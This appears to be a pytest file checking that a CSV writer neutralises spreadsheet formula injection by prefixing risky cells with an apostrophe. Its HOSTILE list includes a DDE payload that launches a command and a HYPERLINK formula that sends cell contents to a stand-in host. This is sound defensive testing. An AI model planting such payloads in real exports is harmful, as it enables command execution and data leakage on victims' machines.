"""What is written as CSV computes nothing in a spreadsheet, and can be read back."""

from __future__ import annotations

import csv
import io

import pytest

from sightline.cells import csv_line, harmless, read_back
from sightline.record import Record

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1,"cat")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1\uff0b1",
    "'=1+1",
    "''=1+1",
    "-cat.jpg",
]
HARMLESS = ["cat", "a=b", "", "3", "-0.5", "+1", "-1e-05", "-.5", "-inf", "'quoted'", "it's", "cat-1.jpg", "犬"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_compute_gets_an_apostrophe(text):
    assert harmless(text) == f"'{text}"
    assert read_back(harmless(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_other_text_stay_as_they_are(text):
    assert harmless(text) == text == read_back(text)


def test_a_line_is_read_back_by_any_reader_of_csv():
    cells = [*HOSTILE, *HARMLESS, "a,b", 'a "b"', "a;=1+1", "line\nbreak", "a|b"]
    read = next(csv.reader(io.StringIO(csv_line([*cells, None, 0.25, 7]), newline="")))
    assert [read_back(cell) for cell in read[: len(cells)]] == cells
    assert read[len(cells) :] == ["", "0.25", "7"]


def test_a_formula_does_not_hide_behind_another_separator():
    for separator in ";\t|":
        line = csv_line([f"cat{separator}=1+1", "dog"])
        read = next(csv.reader(io.StringIO(line, newline=""), delimiter=separator))
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in read)


def test_the_table_of_epochs_is_written_so():
    record = Record()
    record.add("epoch", epoch=0, train_loss=-0.5, valid_loss=None, metrics={"=1+1": 0.5, "error,rate": 0.25})
    rows = list(csv.DictReader(io.StringIO(record.epochs_csv())))
    assert rows == [{"epoch": "0", "train_loss": "-0.5", "valid_loss": "", "'=1+1": "0.5", "error,rate": "0.25"}]
